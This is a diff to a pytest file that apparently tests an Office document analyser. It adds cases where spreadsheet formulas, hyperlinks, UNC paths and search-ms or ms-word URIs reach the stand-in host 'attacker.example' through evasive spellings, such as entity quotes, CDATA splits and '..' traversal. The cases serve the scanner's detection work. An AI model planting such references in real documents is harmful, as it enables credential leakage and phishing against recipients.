@@ -370,6 +370,7 @@ def test_targets_resolve_against_their_source(source: str, target: str, expected
         ("\\\\?\\UNC\\attacker.example\\share\\t.dotx", "remote"),
         ("\\??\\GLOBALROOT\\Device\\Mup\\attacker.example\\share\\t.dotx", "remote"),
         ("\\\\.\\pipe\\x", "remote"),
+        ("\\\\.\\C:\\..\\UNC\\attacker.example\\share\\t.dotx", "remote"),  # ".." climbs
         ("/\\attacker.example\\share\\t.dotx", "remote"),
         ("\\\\?\\C:\\Users\\me\\Templates\\Letter.dotx", "local"),
         ("\\??\\C:\\Users\\me\\Templates\\Letter.dotx", "local"),
@@ -557,6 +558,23 @@ def test_a_formula_that_opens_a_workbook_on_a_share(sheet: str | None, names: st
 
 
 @pytest.mark.parametrize(
+    "sheet",
+    [
+        formula_sheet("&apos;http://attacker.example/[Book2.xlsx]Sheet1&apos;!A1"),
+        formula_sheet("'\\<![CDATA[\\]]>attacker.example\\s\\[Book2.xlsx]Sheet1'!A1"),
+        formula_sheet("'//attacker.example/s/[Book2.xlsx]Sheet1'!A1"),
+        formula_sheet('HYPERLINK("\\\\attacker.example\\s\\x.xlsx","Your invoice")'),
+        formula_sheet('hyperlink("//attacker.example/s/x.xlsx")'),
+    ],
+    ids=["entity-quotes", "cdata-split", "forward-slashes", "hyperlink-share", "hyperlink-lower"],
+)
+def test_a_formula_that_reaches_a_share_however_spelt(sheet: str) -> None:
+    # the byte search that decides whether a part's formulas are read missed these spellings
+    report = analyse_package(xlsx(sheet))
+    assert threats(report) == [(OpcKind.EXTERNAL_LINK, "xl/worksheets/sheet1.xml", "formula")]
+
+
+@pytest.mark.parametrize(
     "formula",
     ["[1]Sheet1!A1", "SUM('Q1 2026'!A1:A3)", '"\\\\host\\x!"', "Table1[[#This Row],[Price]]*2"],
     ids=["external-link-index", "quoted-sheet", "text-constant", "structured-reference"],
@@ -673,6 +691,8 @@ def test_external_relationships_that_office_follows(rel_type: str, target: str) 
         "file://fileserver/orders/4711.pdf",
         "\\??\\UNC\\fileserver\\orders\\4711.pdf",
         "\\\\attacker.example@SSL\\DavWWWRoot\\x.docx",
+        "search-ms:query=invoice&amp;crumb=location:%5C%5Cattacker.example%5Cs",  # (XML-escaped)
+        "ms-word:ofe|u|\\\\attacker.example\\s\\x.docx",
     ],
 )
 def test_a_hyperlink_to_a_network_share(target: str) -> None:
@@ -687,9 +707,15 @@ def test_a_hyperlink_to_a_network_share(target: str) -> None:
     [
         ('<w:p><w:r><w:drawing><a:blip r:link="rId4"/></w:drawing></w:r></w:p>', True),
         ('<w:p><w:hyperlink r:id="rId4"><w:r><w:t>our site</w:t></w:r></w:hyperlink></w:p>', False),
+        (
+            '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
+            'xmlns:o="urn:schemas-microsoft-com:office:office" o:relid="rId4"/></v:shape></w:pict>'
+            "</w:r></w:p>",
+            True,
+        ),
         ("<w:p><w:r><w:t>nothing names it</w:t></w:r></w:p>", False),
     ],
-    ids=["picture-link", "hyperlink", "unused"],
+    ids=["picture-link", "hyperlink", "vml-relid", "unused"],
 )
 def test_a_hyperlink_relationship_that_a_picture_loads(body: str, flagged: bool) -> None:
     # typed as a hyperlink (allowed: a click away), named by a picture's r:link: if Office
